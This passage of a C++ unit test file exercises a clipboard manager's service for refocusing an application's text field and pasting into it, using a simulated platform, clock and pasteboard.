        {"front after 0.25 s", 0.25, true, true, std::nullopt, true, 0.33},
        {"focus refused, press focuses", 0, false, true, std::nullopt, true, 0.07},
        {"never in front", -1, true, true, std::nullopt, false, 2.01},
        {"focus never arrives", 0, true, false, std::nullopt, false, 2.07},
        {"quits while waiting", 0, true, false, 0.5, false, 0.55},
    };
    for (const Row &row : rows) {
        SimPlatform platform;
        const RunningApplication app = platform.workspace.addApplication(QStringLiteral("gedit"));
        platform.workspace.activationDelay = row.activationDelay;
        const auto root = platform.accessibility.application(app.pid);
        const auto field = root->addChild(AccessibilityRole::textField);
        root->process().acceptsFocus = row.acceptsFocus;
        if (!row.respondsToFocus)
            field->set(AccessibilityAttribute::focused, false);
        PasteboardManager manager(platform.clock, platform.pasteboard, &platform.workspace);
        ClipboardService refocusing(platform.platform(), manager);

        Task<bool> task = refocusing.refocus(app, FocusedFieldTarget{field->element(), {}});
        double elapsed = 0;
        while (!task.isFinished() && elapsed < 3) {
            if (row.terminateAt && elapsed >= *row.terminateAt)
                platform.workspace.terminate(app);
            platform.clock.advance(0.01);
            elapsed += 0.01;
        }
        EXPECT_EQ(task.result(), row.result) << row.what;
        EXPECT_LE(elapsed, row.finishedBy + 0.02) << row.what;
        if (row.result == true) {
            EXPECT_TRUE(field->isFocused()) << row.what;
            EXPECT_EQ(root->process().presses > 0, !row.acceptsFocus) << row.what;
        }
    }
}

TEST_F(ClipboardServiceTest, CancelledRefocusEndsAtOnce)
{
    const auto field = sim.accessibility.application(editor.pid)->addChild(AccessibilityRole::textField);
    field->set(AccessibilityAttribute::focused, false);
    Task<bool> task = service.refocus(editor, FocusedFieldTarget{field->element(), {}});
    sim.clock.advance(0.2);
    task.cancel();
    EXPECT_EQ(task.result(), std::optional<bool>(false));
}

TEST_F(ClipboardServiceTest, TargetCarriesTheFocusedFieldTheReaderFinds)
{
    const auto field = sim.accessibility.application(editor.pid)->addChild(AccessibilityRole::textField);
    QList<qint64> asked;
    service.setFocusedFieldReader([&](const RunningApplication &app) -> std::optional<FocusedFieldTarget> {
        asked.append(app.pid);
        return FocusedFieldTarget{field->element(), {}};
    });
    sim.workspace.bringToFront(editor);
    const std::optional<ClipboardPasteTarget> target = service.focusedFieldTarget();
    ASSERT_TRUE(target && target->field);
    EXPECT_EQ(target->field->element, field->element());
    EXPECT_EQ(asked, QList<qint64>{editor.pid});
}

TEST_F(ClipboardServiceTest, AppStatePasteGoesThroughTheService)
{
    service.setPreviousActiveApp(editor);
    Task<bool> pasted = appState.paste(QStringLiteral("from a field"));
    sim.clock.advance(0.2);
    EXPECT_EQ(pasted.result(), std::optional<bool>(true));
    EXPECT_EQ(sim.pasteboard.writes.first(), (Write{{{PasteboardType::plainText, QByteArray("from a field")}}}));
    EXPECT_EQ(history.items().first().text(), QStringLiteral("from a field"));
}

} // namespace
